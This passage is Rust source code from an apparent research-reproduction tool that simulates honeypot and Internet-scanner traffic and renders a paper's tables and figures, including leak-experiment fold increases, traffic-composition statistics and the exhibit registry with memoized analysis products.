                    format!("{:.0}%", r.pct_benign),
                    format!("{:.0}%", r.pct_malicious),
                    r.scanners.to_string(),
                ]);
            }
            if port == 80 {
                out.push_str("~HTTP/80 per-protocol shares:\n");
                for sh in shares {
                    out.push_str(&format!("  {:<7} {:.2}%\n", sh.protocol.label(), sh.pct));
                }
                out.push('\n');
            }
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// §3.2 traffic-composition statistics.
pub struct Section3_2;

impl Exhibit for Section3_2 {
    fn name(&self) -> &'static str {
        "section3_2"
    }
    fn title(&self) -> &'static str {
        "§3.2 traffic-composition statistics"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        PlanRequest::all_for(
            NEEDS[0],
            crate::ports::composition_stats_plans(&Deployment::standard()),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let mut out = header_str("Section 3.2: traffic composition (2021)");
        out.push_str(&paper_note_str(
            "34% of Telnet/23 traffic does not attempt login; 24% on SSH/22; 75% of HTTP/80 \
             payloads send no exploit; Suricata labels 6% of distinct HTTP payloads malicious",
        ));
        let c = cx.composition(NEEDS[0]);
        out.push_str(&format!(
            "Telnet/23 traffic not attempting login : {:.0}%  (paper 34%)\n",
            c.telnet_non_auth_pct
        ));
        out.push_str(&format!(
            "SSH/22 traffic not attempting login    : {:.0}%  (paper 24%)\n",
            c.ssh_non_auth_pct
        ));
        out.push_str(&format!(
            "HTTP/80 payloads without exploits      : {:.0}%  (paper 75%)\n",
            c.http80_benign_pct
        ));
        out.push_str(&format!(
            "Distinct HTTP payloads labeled malicious: {:.0}%  (paper 6%)\n",
            c.distinct_http_malicious_pct
        ));
        out
    }
}

/// Figure 1: address-structure preferences inside the telescope.
///
/// Prints ASCII sparklines of the rolling-512 unique-scanner series for
/// the four panels and writes full CSVs to `out/figure1_port<k>.csv`.
pub struct Figure1;

impl Exhibit for Figure1 {
    fn name(&self) -> &'static str {
        "figure1"
    }
    fn title(&self) -> &'static str {
        "Telescope address-structure preferences (+ CSVs)"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let s = main_bundle(cx);
        let mut out = header_str("Figure 1: telescope address-structure preferences (2021)");
        out.push_str(&paper_note_str(
            "(a) port 22: spikes at /16 first addresses (order of magnitude); \
             (b) port 445 / (c) port 80: dips at any-255-octet addresses (9x / strong); \
             (d) port 17128: a four-address latch",
        ));
        std::fs::create_dir_all("out").expect("create out/");
        let tel = &s.telescope;
        for (panel, port) in [("a", 22u16), ("b", 445), ("c", 80), ("d", 17_128)] {
            let Some(fig) = crate::figure1::series(tel, port) else {
                out.push_str(&format!("(1{panel}) port {port}: not tracked\n"));
                continue;
            };
            out.push_str(&format!(
                "(1{panel}) port {port} — rolling-512 unique scanners per IP:\n"
            ));
            out.push_str(&format!(
                "      {}\n",
                crate::figure1::ascii_sparkline(&fig.rolling, 96)
            ));
            let path = format!("out/figure1_port{port}.csv");
            let file = std::fs::File::create(&path).expect("create csv");
            crate::figure1::write_csv(tel, &fig, std::io::BufWriter::new(file))
                .expect("write csv");
            out.push_str(&format!("      series written to {path}\n"));
        }
        out.push('\n');
        if let Some(pref) = crate::figure1::slash16_first_preference(tel, 22) {
            out.push_str(&format!(
                "port 22: /16-first addresses are {pref:.1}x more targeted (paper: ~10x)\n"
            ));
        }
        for (port, paper) in [(445u16, "9x"), (80, "dips visible"), (7_574, "61x")] {
            if let Some(st) = crate::figure1::structure_stats(tel, port, |ip| ip.has_255_octet()) {
                out.push_str(&format!(
                    "port {port}: 255-octet addresses are {:.1}x less targeted \
                     (mean {:.3} vs {:.3}; paper: {paper})\n",
                    st.avoidance_factor, st.mean_matching, st.mean_rest
                ));
            }
        }
        if let Some(fig) = crate::figure1::series(tel, 17_128) {
            let mut sorted: Vec<(usize, u32)> = fig.counts.iter().copied().enumerate().collect();
            sorted.sort_by_key(|&(_, c)| std::cmp::Reverse(c));
            let top: Vec<String> = sorted
                .iter()
                .take(4)
                .map(|&(i, c)| format!("{} ({c})", tel.block().nth(i as u64)))
                .collect();
            out.push_str(&format!("port 17128 latch targets: {}\n", top.join(", ")));
        }
        out
    }
}

/// §8: the paper's recommendations, re-derived from this run's data.
pub struct Recommendations;

impl Exhibit for Recommendations {
    fn name(&self) -> &'static str {
        "recommendations"
    }
    fn title(&self) -> &'static str {
        "§8 recommendations with this run's evidence"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        // The union of every memoized product this render consumes; the
        // products themselves dedupe against the other exhibits' requests.
        let d = Deployment::standard();
        let mut plans = crate::neighborhood::table2_plans(&d);
        plans.extend(crate::geography::table4_plans(&d));
        plans.extend(crate::overlap::table8_and_9_plans(&d));
        plans.extend(crate::ports::protocol_breakdown_plans(&d, 80));
        PlanRequest::all_for(NEEDS[0], plans)
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let s = main_bundle(cx);
        let d = Deployment::standard();
        let mut out = header_str("Section 8: recommendations, with this run's supporting evidence");
        let indexed = (s.censys_indexed + s.shodan_indexed) as usize;
        let products = crate::recommendations::Products {
            table2: cx.table2_rows(NEEDS[0]),
            table4: cx.table4_rows(NEEDS[0]),
            table8: cx.table8_rows(NEEDS[0]),
            table9: cx.table9_rows(NEEDS[0]),
            breakdown80: &cx.breakdown(NEEDS[0], 80).0,
        };
        for r in crate::recommendations::evaluate_with(
            &s.dataset,
            &d,
            &s.telescope,
            indexed,
            &products,
        ) {
            out.push_str(&format!(
                "{} {}\n    {}\n\n",
                if r.supported { "✔" } else { "✘" },
                r.title,
                r.evidence
            ));
        }
        out
    }
}
