//! Exhibits outside the one-year mold: the leak experiment (its own side
//! worlds), the static deployment matrix, and the combined `all` digest.
//!
//! Each render is a byte-exact port of the retired single-purpose binary
//! of the same name.

use super::{Exhibit, ExhibitCx, ExhibitOptions, Need, PlanRequest};
use crate::compare::CharKind;
use crate::dataset::TrafficSlice;
use crate::leak::{LeakGroup, LeakService};
use crate::report::{fold_cell, header_str, paper_note_str, pct, phi_value, TextTable};
use cw_honeypot::deployment::{Deployment, Provider};
use cw_scanners::population::ScenarioYear;

/// Table 3: impact of Internet-service search engines (the leak
/// experiment, run once per invocation via [`ExhibitCx::leak`]).
pub struct Table3;

impl Exhibit for Table3 {
    fn name(&self) -> &'static str {
        "table3"
    }
    fn title(&self) -> &'static str {
        "Fold increase in traffic toward leaked services"
    }
    fn needs(&self) -> &'static [Need] {
        &[]
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let mut out = header_str("Table 3: fold increase in traffic/hour toward leaked services");
        out.push_str(&paper_note_str(
            "HTTP/80 all: Censys 7.7* Shodan 15.7* Prev 17.2* · malicious: 4.0* / 5.8 / 7.3 · \
             SSH/22 all: 2.4 / 2.6* / 1.5* · malicious: 2.5 / 2.8* / 1.7* · \
             Telnet/23 all: 72.6* / 1.06* / 201 · malicious: 1.6* / 1.3* / 1.8 \
             (** = MWU-significant increase; trailing * = KS-different distribution/spikes)",
        ));
        let outcome = cx.leak();

        let mut t = TextTable::new(&[
            "Service",
            "Traffic",
            "Censys Leaked",
            "Shodan Leaked",
            "Previously Leaked",
        ]);
        for svc in LeakService::ALL {
            for malicious in [false, true] {
                let cell = |group: LeakGroup| -> String {
                    outcome
                        .cells
                        .iter()
                        .find(|c| {
                            c.service == svc && c.group == group && c.malicious_only == malicious
                        })
                        .map(|c| fold_cell(c.fold, c.mwu_significant, c.ks_different))
                        .unwrap_or_else(|| "-".into())
                };
                t.row(vec![
                    if malicious { String::new() } else { svc.label().to_string() },
                    if malicious { "Malicious" } else { "All" }.to_string(),
                    cell(LeakGroup::CensysLeaked(svc)),
                    cell(LeakGroup::ShodanLeaked(svc)),
                    cell(LeakGroup::PreviouslyLeaked),
                ]);
            }
        }
        out.push_str(&format!("{}\n", t.render()));
        let (leaked_pw, control_pw) = outcome.ssh_unique_passwords;
        out.push_str(&format!(
            "Unique SSH passwords attempted: leaked {leaked_pw:.1} vs control {control_pw:.1} \
             ({:.1}x; paper: ~3x)\n",
            leaked_pw / control_pw.max(1.0)
        ));
        out
    }
}

/// Table 6: honeypots in multiple clouds — the city-matched placement
/// matrix. Derived from the deployment alone; no simulation needed.
pub struct Table6;

impl Exhibit for Table6 {
    fn name(&self) -> &'static str {
        "table6"
    }
    fn title(&self) -> &'static str {
        "City/state-matched multi-cloud deployments"
    }
    fn needs(&self) -> &'static [Need] {
        &[]
    }
    fn run(&self, _cx: &ExhibitCx<'_>) -> String {
        let mut out = header_str("Table 6: city/state-matched multi-cloud deployments");
        out.push_str(&paper_note_str(
            "paper lists CA, GA, OR, TX, VG, FRA rows; our Table 1-derived fleet yields the \
             city-matched pairs below (the paper's own Tables 1 and 6 disagree slightly — see DESIGN.md)",
        ));
        let d = Deployment::standard();
        let regions = d.greynoise_provider_regions();
        let mut codes: Vec<String> = regions.iter().map(|(_, r)| r.code.clone()).collect();
        codes.sort();
        codes.dedup();

        let providers = [Provider::Aws, Provider::Google, Provider::Linode, Provider::Azure];
        let mut t = TextTable::new(&["Region", "AWS", "Google", "Linode", "Azure"]);
        for code in codes {
            let has = |p: Provider| {
                regions
                    .iter()
                    .any(|(pp, r)| *pp == p && r.code == code)
            };
            let marks: Vec<bool> = providers.iter().map(|&p| has(p)).collect();
            if marks.iter().filter(|&&m| m).count() >= 2 {
                t.row(vec![
                    code.clone(),
                    if marks[0] { "+" } else { "" }.to_string(),
                    if marks[1] { "+" } else { "" }.to_string(),
                    if marks[2] { "+" } else { "" }.to_string(),
                    if marks[3] { "+" } else { "" }.to_string(),
                ]);
            }
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Every table and figure in one digest (shares scenario bundles across
/// sections, in the retired `all` binary's canonical order).
pub struct All;

impl Exhibit for All {
    fn name(&self) -> &'static str {
        "all"
    }
    fn title(&self) -> &'static str {
        "One-run digest of every table and figure"
    }
    fn needs(&self) -> &'static [Need] {
        &[
            Need::Year(ScenarioYear::Y2021),
            Need::Exact(ScenarioYear::Y2020),
            Need::Exact(ScenarioYear::Y2022),
        ]
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        let d = Deployment::standard();
        // The 2021 sections consume Tables 2, 4, 8/9, 11 (both ports), and
        // the §3.2 composition; each appendix snapshot re-reads Table 2 and
        // the port-80 breakdown on its own year.
        let mut main = crate::neighborhood::table2_plans(&d);
        main.extend(crate::geography::table4_plans(&d));
        main.extend(crate::overlap::table8_and_9_plans(&d));
        main.extend(crate::ports::protocol_breakdown_plans(&d, 80));
        main.extend(crate::ports::protocol_breakdown_plans(&d, 8080));
        main.extend(crate::ports::composition_stats_plans(&d));
        let mut reqs = PlanRequest::all_for(self.needs()[0], main);
        for &need in &self.needs()[1..] {
            let mut side = crate::neighborhood::table2_plans(&d);
            side.extend(crate::ports::protocol_breakdown_plans(&d, 80));
            reqs.extend(PlanRequest::all_for(need, side));
        }
        reqs
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let d = Deployment::standard();
        let mut sections = render_2021(cx, self.needs()[0], &d);
        let mut out = sections.remove(0); // Table 2
        out.push_str(&render_leak_section(cx)); // Table 3
        for s in sections {
            out.push_str(&s); // Tables 4, 8/9, 11+§3.2, Figure 1, Table 7 sample
        }
        out.push_str(&render_appendix(cx, self.needs()[1]));
        out.push_str(&render_appendix(cx, self.needs()[2]));
        out
    }
}

fn render_2021(cx: &ExhibitCx<'_>, need: Need, d: &Deployment) -> Vec<String> {
    let s21 = cx.bundle(need);
    let mut sections = Vec::new();

    let mut out = header_str("Table 2 (2021 neighborhoods)");
    let mut t = TextTable::new(&["Slice", "Characteristic", "n", "% dif", "Avg phi"]);
    for r in cx.table2_rows(need) {
        t.row(vec![
            r.slice.label().to_string(),
            r.characteristic.label().to_string(),
            r.n.to_string(),
            format!("{:.0}%", r.pct_different),
            phi_value(r.avg_phi, 1),
        ]);
    }
    out.push_str(&format!("{}\n", t.render()));
    sections.push(out);

    let mut out = header_str("Table 4 (2021 geography)");
    let mut t = TextTable::new(&["Characteristic", "Slice", "Provider", "Region", "phi"]);
    for r in cx.table4_rows(need) {
        t.row(vec![
            r.characteristic.label().to_string(),
            r.slice.label().to_string(),
            format!("{:?}", r.provider),
            r.region.clone().unwrap_or_else(|| "-".into()),
            phi_value(r.avg_phi, 1),
        ]);
    }
    out.push_str(&format!("{}\n", t.render()));
    sections.push(out);

    let mut out = header_str("Table 8 / Table 9 (telescope avoidance)");
    {
        let mut t = TextTable::new(&["Port", "Tel∩Cloud", "Tel∩EDU", "Cloud∩EDU"]);
        for r in cx.table8_rows(need) {
            t.row(vec![
                r.port.to_string(),
                pct(r.tel_cloud),
                pct(r.tel_edu),
                pct(r.cloud_edu),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        let mut t = TextTable::new(&["Port", "Tel∩Mal-Cloud", "Tel∩Mal-EDU"]);
        for r in cx.table9_rows(need) {
            t.row(vec![r.port.to_string(), pct(r.tel_cloud), pct(r.tel_edu)]);
        }
        out.push_str(&format!("{}\n", t.render()));
    }
    sections.push(out);

    let mut out = header_str("Table 11 + §3.2 (2021 ports)");
    for port in [80u16, 8080] {
        let (rows, _) = cx.breakdown(need, port);
        for r in rows {
            out.push_str(&format!(
                "  {}HTTP/{port}: {:.0}% (benign {:.0}%, malicious {:.0}%)\n",
                if r.is_http { "" } else { "~" },
                r.pct_of_scanners,
                r.pct_benign,
                r.pct_malicious
            ));
        }
    }
    let c = cx.composition(need);
    out.push_str(&format!(
        "  non-auth telnet {:.0}%, ssh {:.0}%; http80 benign {:.0}%; distinct-http malicious {:.0}%\n",
        c.telnet_non_auth_pct, c.ssh_non_auth_pct, c.http80_benign_pct, c.distinct_http_malicious_pct
    ));
    sections.push(out);

    let mut out = header_str("Figure 1 (sparklines)");
    {
        let tel = &s21.telescope;
        for port in [22u16, 445, 80, 17_128] {
            if let Some(fig) = crate::figure1::series(tel, port) {
                out.push_str(&format!(
                    "  port {port:>5}: {}\n",
                    crate::figure1::ascii_sparkline(&fig.rolling, 80)
                ));
            }
        }
    }
    sections.push(out);

    let mut out = header_str("Table 7 sample (network types, 2021)");
    let cc = crate::network::cloud_cloud_cell(
        &s21.dataset,
        d,
        TrafficSlice::SshPort22,
        CharKind::TopAs,
        0.05,
    );
    out.push_str(&format!(
        "  cloud-cloud SSH/22 Top-AS: {}/{} different, avg phi {}\n",
        cc.n_different,
        cc.n,
        phi_value(cc.avg_phi, 1)
    ));
    sections.push(out);

    sections
}

fn render_leak_section(cx: &ExhibitCx<'_>) -> String {
    let mut out = header_str("Table 3 (leak experiment)");
    let leak = cx.leak();
    let mut t = TextTable::new(&["Service", "Traffic", "Censys", "Shodan", "Prev"]);
    for svc in LeakService::ALL {
        for malicious in [false, true] {
            let cell = |g: LeakGroup| {
                leak.cells
                    .iter()
                    .find(|c| c.service == svc && c.group == g && c.malicious_only == malicious)
                    .map(|c| fold_cell(c.fold, c.mwu_significant, c.ks_different))
                    .unwrap_or_default()
            };
            t.row(vec![
                svc.label().to_string(),
                if malicious { "Malicious" } else { "All" }.to_string(),
                cell(LeakGroup::CensysLeaked(svc)),
                cell(LeakGroup::ShodanLeaked(svc)),
                cell(LeakGroup::PreviouslyLeaked),
            ]);
        }
    }
    out.push_str(&format!("{}\n", t.render()));
    out
}

fn render_appendix(cx: &ExhibitCx<'_>, need: Need) -> String {
    let year = cx.bundle(need).config.year;
    let mut out = header_str(&format!("Appendix snapshot ({})", year.year()));
    let rows = cx.table2_rows(need);
    out.push_str(&format!(
        "  neighborhoods different (SSH/22 Top-AS): {:.0}% of {}\n",
        rows[0].pct_different, rows[0].n
    ));
    {
        let port = 80u16;
        let (rows, _) = cx.breakdown(need, port);
        if let Some(r) = rows.iter().find(|r| !r.is_http) {
            out.push_str(&format!("  ~HTTP/{port} share: {:.0}%\n", r.pct_of_scanners));
        }
    }
    out
}
