//! The unified exhibit registry: every table, figure, and ablation as a
//! named value.
//!
//! Historically each exhibit was its own binary that simulated its own
//! world, so regenerating all 25 meant ~27 redundant simulations. Here an
//! exhibit is a *pure render*: it declares which simulated worlds it needs
//! ([`Exhibit::needs`]) and turns the matching [`SimBundle`]s into its
//! exact stdout text ([`Exhibit::run`]). The `cw` driver resolves the
//! union of needs across the requested exhibits, obtains each distinct
//! world once (through the [`crate::snapshot`] cache), and fans the
//! bundles out to every render — simulate once, analyze many.
//!
//! Renders are byte-identical to the retired binaries: the golden-exhibit
//! gate (`tests/golden.rs`) pins them against `tests/golden/MANIFEST.sha256`.

pub mod ablations;
pub mod appendix;
pub mod main_year;
pub mod special;

use crate::bundle::SimBundle;
use crate::leak::{LeakConfig, LeakOutcome};
use crate::neighborhood::NeighborhoodRow;
use crate::overlap::{MaliciousOverlapRow, OverlapRow};
use crate::ports::{CompositionStats, ProtocolBreakdownRow, UnexpectedShare};
use crate::query::{Plan, PlanStore, ScanExec};
use crate::scenario::{ScenarioConfig, DEFAULT_SEED};
use cw_honeypot::deployment::Deployment;
use cw_scanners::population::ScenarioYear;
use std::collections::BTreeMap;
use std::sync::OnceLock;

/// One simulated world an exhibit needs, by scenario year.
///
/// The two variants differ only in how they react to a `--year` override:
/// a default year follows the override (re-running the 2021 analysis on
/// another year's data, as Appendix C does), while a pinned year ignores
/// it (cross-year exhibits like Table 14 are meaningless on one year).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Need {
    /// The exhibit's default year; a `--year` override replaces it.
    Year(ScenarioYear),
    /// A pinned year; `--year` does not apply.
    Exact(ScenarioYear),
}

impl Need {
    /// The year this need resolves to under `opts`.
    pub fn resolve(self, opts: &ExhibitOptions) -> ScenarioYear {
        match self {
            Need::Year(default) => opts.year.unwrap_or(default),
            Need::Exact(year) => year,
        }
    }
}

/// The scenario-selection options shared by every exhibit in one
/// invocation (the `--scale`, `--seed`, `--year` flags of the `cw` CLI).
#[derive(Debug, Clone, Copy)]
pub struct ExhibitOptions {
    /// Population scale.
    pub scale: f64,
    /// Master seed.
    pub seed: u64,
    /// Year override for [`Need::Year`] needs.
    pub year: Option<ScenarioYear>,
    /// Engine shards per scenario (0 = auto; see
    /// [`ScenarioConfig::effective_shards`]). Purely a wall-clock knob —
    /// every rendered byte is identical for any value.
    pub shards: usize,
    /// Deterministic measurement-fault plan applied to every simulated
    /// world this invocation obtains (including the leak worlds). Unlike
    /// `shards`, this *is* part of world identity: any non-none plan
    /// changes the rendered bytes and the snapshot cache addresses.
    pub fault: cw_netsim::fault::FaultPlan,
}

impl Default for ExhibitOptions {
    fn default() -> Self {
        ExhibitOptions {
            scale: 1.0,
            seed: DEFAULT_SEED,
            year: None,
            shards: 0,
            fault: cw_netsim::fault::FaultPlan::none(),
        }
    }
}

impl ExhibitOptions {
    /// The scenario configuration these options select for `year`.
    pub fn config(&self, year: ScenarioYear) -> ScenarioConfig {
        ScenarioConfig::paper(year)
            .with_seed(self.seed)
            .with_scale(self.scale)
            .with_shards(self.shards)
            .with_fault(self.fault)
    }
}

/// Lazily memoized analysis products of one simulated world.
///
/// Several exhibits consume the same derived tables (the `all` digest
/// alone re-derives Tables 2, 4, 8, 9, and 11; `recommendations` and
/// `temporal_stability` lean on the same overlap rows). Memoizing them per
/// bundle makes each product a compute-once value for the whole
/// invocation, exactly like the bundles themselves — the product is a pure
/// function of the bundle, so sharing cannot change any rendered byte.
#[derive(Default)]
struct YearMemo {
    table2: OnceLock<Vec<NeighborhoodRow>>,
    table4: OnceLock<Vec<crate::geography::MostDifferentRegion>>,
    overlap: OnceLock<(Vec<OverlapRow>, Vec<MaliciousOverlapRow>)>,
    breakdown80: OnceLock<(Vec<ProtocolBreakdownRow>, Vec<UnexpectedShare>)>,
    breakdown8080: OnceLock<(Vec<ProtocolBreakdownRow>, Vec<UnexpectedShare>)>,
    composition: OnceLock<CompositionStats>,
}

/// The render context handed to [`Exhibit::run`]: the shared options plus
/// the simulated worlds, keyed by scenario year (seed and scale are fixed
/// per invocation, so the year identifies a bundle).
pub struct ExhibitCx<'a> {
    /// The invocation's scenario-selection options.
    pub opts: ExhibitOptions,
    bundles: &'a BTreeMap<u16, SimBundle>,
    memo: BTreeMap<u16, YearMemo>,
    stores: BTreeMap<u16, PlanStore>,
    leak: OnceLock<LeakOutcome>,
}

/// What one bundle's plan prefetch cost — per-year fusion accounting for
/// `cw all --trace-scans`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PrefetchStats {
    /// Scenario year of the bundle the plans ran against.
    pub year: u16,
    /// Distinct plans prefetched (duplicates across exhibits collapse).
    pub plans: usize,
    /// Fused column passes the prefetch cost.
    pub passes: usize,
}

impl<'a> ExhibitCx<'a> {
    /// Build a context over pre-resolved bundles.
    pub fn new(opts: ExhibitOptions, bundles: &'a BTreeMap<u16, SimBundle>) -> Self {
        let memo = bundles.keys().map(|&y| (y, YearMemo::default())).collect();
        ExhibitCx {
            opts,
            bundles,
            memo,
            stores: BTreeMap::new(),
            leak: OnceLock::new(),
        }
    }

    /// Collect every plan `exhibits` declare ([`Exhibit::plans`]), group
    /// them per bundle, and execute each bundle's set as one fused
    /// [`PlanStore`] — the registry-wide scan fusion step the driver runs
    /// between resolving worlds and fanning out renders. Renders then hit
    /// the store through [`ExhibitCx::exec`]; without prefetch every plan
    /// runs standalone with byte-identical results.
    ///
    /// Requests whose resolved year has no bundle are skipped (their
    /// exhibit's render will fail its own `bundle` lookup, not the whole
    /// prefetch). Returns per-year fusion stats for `--trace-scans`.
    pub fn prefetch(&mut self, exhibits: &[&dyn Exhibit]) -> Vec<PrefetchStats> {
        let mut per_year: BTreeMap<u16, Vec<Plan>> = BTreeMap::new();
        for e in exhibits {
            for req in e.plans(&self.opts) {
                let year = req.need.resolve(&self.opts).year();
                if self.bundles.contains_key(&year) {
                    per_year.entry(year).or_default().push(req.plan);
                }
            }
        }
        let mut stats = Vec::new();
        for (year, plans) in per_year {
            let bundle = &self.bundles[&year];
            let store = PlanStore::build(&bundle.dataset, &plans)
                .expect("exhibit-declared plans validate");
            stats.push(PrefetchStats {
                year,
                plans: store.plans(),
                passes: store.passes(),
            });
            self.stores.insert(year, store);
        }
        stats
    }

    /// A plan runner for `need`'s bundle: serves prefetched results from
    /// the bundle's [`PlanStore`] when [`ExhibitCx::prefetch`] ran, falls
    /// back to standalone execution otherwise.
    pub fn exec(&self, need: Need) -> ScanExec<'_> {
        let s = self.bundle(need);
        match self.stores.get(&s.config.year.year()) {
            Some(store) => ScanExec::with_store(&s.dataset, store),
            None => ScanExec::unplanned(&s.dataset),
        }
    }

    /// The bundle satisfying `need`.
    ///
    /// # Panics
    ///
    /// If the driver did not provide that year's bundle — a driver bug by
    /// contract: drivers resolve [`required_configs`] before rendering.
    pub fn bundle(&self, need: Need) -> &SimBundle {
        let year = need.resolve(&self.opts).year();
        self.bundles
            .get(&year)
            .unwrap_or_else(|| panic!("no bundle for scenario year {year} (driver bug)"))
    }

    fn memo(&self, need: Need) -> (&SimBundle, &YearMemo) {
        let s = self.bundle(need);
        (s, &self.memo[&s.config.year.year()])
    }

    /// `need`'s Table 2 neighborhood rows (computed once per bundle,
    /// through the bundle's plan store when prefetched).
    pub fn table2_rows(&self, need: Need) -> &[NeighborhoodRow] {
        let (_, m) = self.memo(need);
        m.table2.get_or_init(|| {
            crate::neighborhood::table2_with(&self.exec(need), &Deployment::standard())
        })
    }

    /// `need`'s Table 4 geography grid (computed once per bundle).
    pub fn table4_rows(&self, need: Need) -> &[crate::geography::MostDifferentRegion] {
        let (_, m) = self.memo(need);
        m.table4.get_or_init(|| {
            crate::geography::table4_with(&self.exec(need), &Deployment::standard())
        })
    }

    /// `need`'s Tables 8 *and* 9, computed together once per bundle: both
    /// tables group by destination port over the same two fleets, so
    /// [`crate::overlap::table8_and_9_with`] derives them from one shared
    /// fused scan per fleet.
    fn overlap_rows(&self, need: Need) -> &(Vec<OverlapRow>, Vec<MaliciousOverlapRow>) {
        let (s, m) = self.memo(need);
        m.overlap.get_or_init(|| {
            crate::overlap::table8_and_9_with(
                &self.exec(need),
                &Deployment::standard(),
                &s.telescope,
            )
        })
    }

    /// `need`'s Table 8 telescope-overlap rows (computed once per bundle).
    pub fn table8_rows(&self, need: Need) -> &[OverlapRow] {
        &self.overlap_rows(need).0
    }

    /// `need`'s Table 9 attacker-overlap rows (computed once per bundle).
    pub fn table9_rows(&self, need: Need) -> &[MaliciousOverlapRow] {
        &self.overlap_rows(need).1
    }

    /// `need`'s Table 11 protocol breakdown for `port` (80 or 8080 only —
    /// the two ports the paper reports), computed once per bundle.
    pub fn breakdown(
        &self,
        need: Need,
        port: u16,
    ) -> &(Vec<ProtocolBreakdownRow>, Vec<UnexpectedShare>) {
        let (s, m) = self.memo(need);
        let cell = match port {
            80 => &m.breakdown80,
            8080 => &m.breakdown8080,
            other => panic!("no memoized breakdown for port {other}"),
        };
        cell.get_or_init(|| {
            crate::ports::protocol_breakdown_with(
                &self.exec(need),
                &Deployment::standard(),
                &s.reputation,
                port,
            )
        })
    }

    /// `need`'s §3.2 composition statistics (computed once per bundle).
    pub fn composition(&self, need: Need) -> CompositionStats {
        let (_, m) = self.memo(need);
        *m.composition.get_or_init(|| {
            crate::ports::composition_stats_with(&self.exec(need), &Deployment::standard())
        })
    }

    /// The Table 3 leak experiment for this invocation's options, run once
    /// and shared (`table3` and the `all` digest both consume it). The leak
    /// worlds are small enough (~1% of a year scenario) to simulate inline
    /// rather than snapshot; progress goes to stderr like the simulations.
    pub fn leak(&self) -> &LeakOutcome {
        self.leak.get_or_init(|| {
            eprintln!(
                "[cw] running leak experiment (scale {}, seed {:#x}) ...",
                self.opts.scale, self.opts.seed
            );
            let started = std::time::Instant::now();
            let outcome = crate::leak::run(&LeakConfig {
                seed: self.opts.seed ^ 0x1EA4,
                scale: self.opts.scale,
                horizon: cw_netsim::time::SimDuration::WEEK,
                fault: self.opts.fault,
            });
            eprintln!("[cw] leak experiment complete in {:.1?}", started.elapsed());
            outcome
        })
    }
}

/// One scan an exhibit wants prefetched: the [`Plan`] plus the [`Need`]
/// identifying the bundle it runs against. The driver groups requests per
/// resolved bundle and fuses each group into one [`PlanStore`] build.
#[derive(Debug, Clone)]
pub struct PlanRequest {
    /// Which simulated world the plan scans.
    pub need: Need,
    /// The declared scan.
    pub plan: Plan,
}

impl PlanRequest {
    /// Wrap `plans` for one `need`.
    pub fn all_for(need: Need, plans: Vec<Plan>) -> Vec<PlanRequest> {
        plans
            .into_iter()
            .map(|plan| PlanRequest { need, plan })
            .collect()
    }
}

/// One table, figure, or ablation: a named, pure render over simulated
/// worlds.
pub trait Exhibit: Sync {
    /// The registry name (also the `out/<name>.txt` stem and the `cw`
    /// subcommand).
    fn name(&self) -> &'static str;
    /// A one-line human description for `cw list`.
    fn title(&self) -> &'static str;
    /// The simulated worlds this render consumes. Exhibits that need no
    /// scenario (Table 6) or run their own side experiment (Table 3's
    /// leak worlds, which are small enough to simulate inline) return `&[]`.
    fn needs(&self) -> &'static [Need];
    /// The scans this render will ask for, for up-front fused prefetching
    /// ([`ExhibitCx::prefetch`]). The default — no declared plans — is the
    /// legacy path: every scan runs on demand, byte-identically. Declaring
    /// plans never changes rendered bytes, only how many column passes
    /// they cost.
    fn plans(&self, opts: &ExhibitOptions) -> Vec<PlanRequest> {
        let _ = opts;
        Vec::new()
    }
    /// Render the exhibit's exact stdout text from the provided worlds.
    fn run(&self, cx: &ExhibitCx<'_>) -> String;
}

/// Every exhibit, in canonical (golden-manifest) order.
pub static REGISTRY: &[&dyn Exhibit] = &[
    &ablations::AblationBonferroni,
    &ablations::AblationMedian,
    &ablations::AblationTopk,
    &special::All,
    &main_year::Figure1,
    &main_year::Recommendations,
    &main_year::Section3_2,
    &main_year::Table1,
    &main_year::Table2,
    &special::Table3,
    &main_year::Table4,
    &main_year::Table5,
    &special::Table6,
    &main_year::Table7,
    &main_year::Table8,
    &main_year::Table9,
    &main_year::Table10,
    &main_year::Table11,
    &appendix::Table12,
    &appendix::Table13,
    &appendix::Table14,
    &appendix::Table15,
    &appendix::Table16,
    &appendix::Table17,
    &appendix::TemporalStability,
];

/// Look an exhibit up by registry name.
pub fn find(name: &str) -> Option<&'static dyn Exhibit> {
    REGISTRY.iter().copied().find(|e| e.name() == name)
}

/// The distinct scenario configurations needed to render `exhibits` under
/// `opts` — the deduped simulation job list. Order follows scenario year.
pub fn required_configs(
    exhibits: &[&dyn Exhibit],
    opts: &ExhibitOptions,
) -> Vec<ScenarioConfig> {
    let mut years: Vec<u16> = exhibits
        .iter()
        .flat_map(|e| e.needs())
        .map(|n| n.resolve(opts).year())
        .collect();
    years.sort_unstable();
    years.dedup();
    years
        .into_iter()
        .map(|y| {
            let year = match y {
                2020 => ScenarioYear::Y2020,
                2021 => ScenarioYear::Y2021,
                _ => ScenarioYear::Y2022,
            };
            opts.config(year)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registry_names_are_unique_and_findable() {
        let mut names: Vec<&str> = REGISTRY.iter().map(|e| e.name()).collect();
        let n = names.len();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), n, "duplicate exhibit names");
        for name in names {
            assert!(find(name).is_some());
        }
        assert!(find("table0").is_none());
    }

    #[test]
    fn year_override_moves_default_needs_only() {
        let opts = ExhibitOptions {
            year: Some(ScenarioYear::Y2022),
            ..ExhibitOptions::default()
        };
        assert_eq!(
            Need::Year(ScenarioYear::Y2021).resolve(&opts),
            ScenarioYear::Y2022
        );
        assert_eq!(
